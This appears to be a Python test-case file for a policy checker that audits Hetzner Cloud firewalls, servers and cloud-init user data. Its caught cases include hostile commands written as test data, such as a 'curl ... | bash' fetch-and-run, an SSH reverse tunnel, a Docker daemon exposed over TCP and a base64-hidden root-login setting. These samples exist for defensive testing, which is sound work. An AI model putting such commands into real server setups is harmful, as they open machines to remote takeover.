"""Hetzner: firewalls, servers, user data, and the types outside the table."""

from policy.rules.model import UNKNOWN
from tests.policy.cases.base import Cases, firewall, other, rule, server
from tests.policy.stacks import USER_DATA

INBOUND = {"direction": "in", "protocol": "tcp", "port": "22", "sourceIps": ["203.0.113.7/32"]}
OUTBOUND = {"direction": "out", "protocol": "tcp", "port": "443", "destinationIps": ["0.0.0.0/0"]}
WIREGUARD = {
    "direction": "out",
    "protocol": "udp",
    "port": "51820",
    "destinationIps": ["198.51.100.4/32", "203.0.113.9/32"],
}
PEER = f"{USER_DATA}  - path: /etc/wireguard/wg0.conf\n    content: |\n      [Peer]\n      AllowedIPs = "
PACKED = "H4sIAAAAAAAC/8vILy4pVkgvSs1RyEstAQCqm8P1DgAAAA=="

PRIMARY_IP = "hcloud:index/primaryIp:PrimaryIp"
ANSWERS = "ct state established,related accept"

CASES = {
    "firewall-no-inbound": Cases(
        caught={
            "one address, one port": rule(**INBOUND),
            "everyone, every port": rule(direction="in", protocol="tcp", port="any", sourceIps=["0.0.0.0/0", "::/0"]),
            "half of the addresses": rule(**{**INBOUND, "sourceIps": ["0.0.0.0/1", "128.0.0.0/1"]}),
            "no source": rule(direction="in", protocol="icmp"),
            "an empty source": rule(**{**INBOUND, "sourceIps": []}),
            "in upper case": rule(**{**INBOUND, "direction": "IN"}),
            "out with a blank": rule(**{**OUTBOUND, "direction": "out "}),
            "no direction": rule(protocol="tcp", port="443"),
            "direction unknown": rule(**{**OUTBOUND, "direction": UNKNOWN}),
            "direction null": rule(**{**OUTBOUND, "direction": None}),
            "a rule unknown": firewall(rules=[OUTBOUND, UNKNOWN]),
            "all rules unknown": firewall(rules=UNKNOWN),
            "rules as a map": firewall(rules={"0": INBOUND}),
            "the second of two": firewall(rules=[OUTBOUND, INBOUND]),
        },
        passes={"outbound": rule(**OUTBOUND), "ping": rule(direction="out", protocol="icmp")},
    ),
    "firewall-outbound-listed": Cases(
        caught={
            "no rule": firewall(rules=[]),
            "any port": rule(**{**OUTBOUND, "port": "any"}),
            "the whole range": rule(**{**OUTBOUND, "port": "1-65535"}),
            "no port": rule(direction="out", protocol="udp"),
        },
        passes={"a range": rule(**{**OUTBOUND, "port": "8000-8010"})},
    ),
    "firewall-wireguard-members": Cases(
        caught={
            "everyone": rule(**{**WIREGUARD, "destinationIps": ["0.0.0.0/0"]}),
            "a network": rule(**{**WIREGUARD, "destinationIps": ["198.51.100.4/32", "203.0.113.0/24"]}),
            "nobody named": rule(**{**WIREGUARD, "destinationIps": []}),
            "unknown": rule(**{**WIREGUARD, "destinationIps": UNKNOWN}),
            "a name": rule(**{**WIREGUARD, "destinationIps": ["peer.example.org"]}),
        },
        passes={
            "members": rule(**WIREGUARD),
            "an address that is not there yet": rule(**{**WIREGUARD, "destinationIps": [UNKNOWN]}),
            "another port": rule(**OUTBOUND),
        },
    ),
    "firewall-by-id": Cases(
        caught={
            "by a label": firewall(applyTos=[{"labelSelector": "env=dev"}]),
            "unknown": firewall(applyTos=UNKNOWN),
        },
        passes={"empty": firewall(applyTos=[])},
    ),
    "server-firewall": Cases(
        caught={
            "no list": server(firewallIds=None),
            "an empty list": server(firewallIds=[]),
            "all unknown": server(firewallIds=UNKNOWN),
            "zero": server(firewallIds=[0]),
            "null": server(firewallIds=[None]),
            "true": server(firewallIds=[True]),
            "a name": server(firewallIds=["base"]),
            "no list but a number": server(firewallIds=4711),
        },
        passes={"an id that is not there yet": server(firewallIds=[UNKNOWN]), "as text": server(firewallIds=["4711"])},
    ),
    "server-side-doors": Cases(
        caught={
            "rescue system": server(rescue="linux64"),
            "iso": server(iso="debian-12.iso"),
            "rescue unknown": server(rescue=UNKNOWN),
            "changes by hand ignored": server(ignoreRemoteFirewallIds=True),
            "a private network": server(networks=[{"networkId": 1}]),
            "no key": server(sshKeys=[]),
            "keys unknown": server(sshKeys=UNKNOWN),
        },
        passes={"empty rescue": server(rescue="")},
    ),
    "server-public-net": Cases(
        caught={
            "gives IPv4 back": server(publicNets=[{"ipv4Enabled": False, "ipv4": 7, "ipv6Enabled": True}]),
            "gives IPv6 back": server(publicNets=[{"ipv4Enabled": True, "ipv6Enabled": False, "ipv6": UNKNOWN}]),
            "unknown": server(publicNets=UNKNOWN),
        },
        passes={"IPv6 only": server(publicNets=[{"ipv4Enabled": False, "ipv6Enabled": True}])},
    ),
    "user-data-readable": Cases(
        caught={
            "none": server(userData=None),
            "a script": server(userData="#!/bin/sh\nufw allow 22\n"),
            "an include": server(userData="#include\nhttps://example.org/boot\n"),
            "a template": server(userData="## template: jinja\n#cloud-config\n"),
            "several parts": server(userData="Content-Type: multipart/mixed; boundary=x\n"),
            "compressed": server(userData=PACKED),
            "too long": server(userData=USER_DATA + "#" * 32_768),
        },
        passes={"not known before the tunnel is": server(userData=UNKNOWN)},
    ),
    "user-data-closed": Cases(
        caught={
            "sshd everywhere": server(userData=USER_DATA.replace("127.0.0.1", "0.0.0.0")),  # noqa: S104 - what must be caught
            "sshd on a second address": server(
                userData=USER_DATA.replace("ListenAddress 127.0.0.1", "ListenAddress 127.0.0.1\n      ListenAddress ::")
            ),
            "no sshd drop-in": server(userData=USER_DATA.replace("ListenAddress 127.0.0.1", "UsePAM no")),
            "input policy accept": server(userData=USER_DATA.replace("policy drop", "policy accept")),
            "a password": server(userData=USER_DATA.replace("lock_passwd: true", "lock_passwd: false")),
            "a hashed password": server(userData=USER_DATA.replace("lock_passwd: true", "passwd: $6$x")),
            "passwords over SSH": server(userData=USER_DATA.replace("ssh_pwauth: false", "ssh_pwauth: true")),
            "root": server(userData=f"{USER_DATA}disable_root: false\n"),
            "chpasswd": server(userData=f"{USER_DATA}chpasswd:\n  expire: false\n"),
            "phone home": server(userData=f"{USER_DATA}phone_home:\n  url: https://example.org\n"),
            "docker over TCP": server(userData=f"{USER_DATA}runcmd:\n  - dockerd -H tcp://0.0.0.0:2375\n"),
            "a reverse tunnel": server(userData=f"{USER_DATA}runcmd:\n  - ssh -N -R 22:localhost:22 example.org\n"),
            "a script from elsewhere": server(userData=f"{USER_DATA}runcmd:\n  - curl https://example.org/x | bash\n"),
            "ufw": server(userData=f"{USER_DATA}runcmd:\n  - ufw allow 22\n"),
            "hidden in base64": server(
                userData=f"{USER_DATA}  - path: /x\n    encoding: b64\n    content: UGVybWl0Um9vdExvZ2luIHllcwo=\n"
            ),
            "what can't be decoded": server(
                userData=f"{USER_DATA}  - path: /x\n    encoding: gz+b64\n    content: '!!'\n"
            ),
            "not a map": server(userData="#cloud-config\n- a\n"),
        },
    ),
    "user-data-unasked": Cases(
        caught={
            "WireGuard's port": server(
                userData=USER_DATA.replace(ANSWERS, f"{ANSWERS}\n          udp dport 51820 accept")
            ),
            "from a fixed port": server(
                userData=USER_DATA.replace(ANSWERS, f"{ANSWERS}\n          udp sport 51820 accept")
            ),
            "by another chain": server(
                userData=USER_DATA.replace(ANSWERS, f'{ANSWERS}\n          iifname "eth0" tcp dport 22 jump ssh')
            ),
            "a peer for everyone": server(userData=f"{PEER}0.0.0.0/0\n"),
            "a peer for a network": server(userData=f"{PEER}10.0.1.2/32, 10.1.0.0/16\n"),
            "a peer for nobody knows what": server(userData=f"{PEER}$ADDRESSES\n"),
        },
        passes={"answers": server(), "a peer": server(userData=f"{PEER}10.0.1.2/32\n")},
    ),
    "hetzner-own-address": Cases(
        caught={
            "put on a machine": other(PRIMARY_IP, assigneeType="server", assigneeId=7),
            "on a machine unknown": other(PRIMARY_IP, assigneeType="server", assigneeId=UNKNOWN),
            "on something else": other(PRIMARY_IP, assigneeType="load_balancer"),
            "on something unknown": other(PRIMARY_IP, assigneeType=UNKNOWN),
        },
        passes={
            "named by its server": other(PRIMARY_IP, type="ipv4", autoDelete=False),
            "for servers alone": other(PRIMARY_IP, type="ipv4", assigneeType="server", autoDelete=False),
        },
    ),
    "hetzner-balancer-private": Cases(
        caught={
            "public by default": other("hcloud:index/loadBalancerNetwork:LoadBalancerNetwork", loadBalancerId=1),
            "public": other("hcloud:index/loadBalancerNetwork:LoadBalancerNetwork", enablePublicInterface=True),
            "unknown": other("hcloud:index/loadBalancerNetwork:LoadBalancerNetwork", enablePublicInterface=UNKNOWN),
            "listens": other("hcloud:index/loadBalancerService:LoadBalancerService", protocol="tcp", listenPort=443),
            "by public address": other("hcloud:index/loadBalancerTarget:LoadBalancerTarget", serverId=1),
        },
    ),
    "hetzner-storage-closed": Cases(
        caught={
            "reachable": other(
                "hcloud:index/storageBox:StorageBox",
                accessSettings={"reachableExternally": True},
            ),
            "over SSH": other(
                "hcloud:index/storageBoxSubaccount:StorageBoxSubaccount", accessSettings={"sshEnabled": True}
            ),
            "unknown": other("hcloud:index/storageBox:StorageBox", accessSettings=UNKNOWN),
        },
    ),
    "hetzner-origin-unnamed": Cases(
        caught={
            "a record": other("hcloud:index/zoneRecord:ZoneRecord", type="A", value="203.0.113.7"),
            "a set of records": other("hcloud:index/zoneRrset:ZoneRrset", records=[{"value": "203.0.113.7"}]),
            "a reverse name": other("hcloud:index/rdns:Rdns", dnsPtr="origin.example.org"),
        },
    ),
    "hetzner-late-firewall": Cases(
        caught={
            "by id": other("hcloud:index/firewallAttachment:FirewallAttachment", firewallId=1, serverIds=[1]),
            "by label": other("hcloud:index/firewallAttachment:FirewallAttachment", labelSelectors=["a"]),
        },
    ),
}
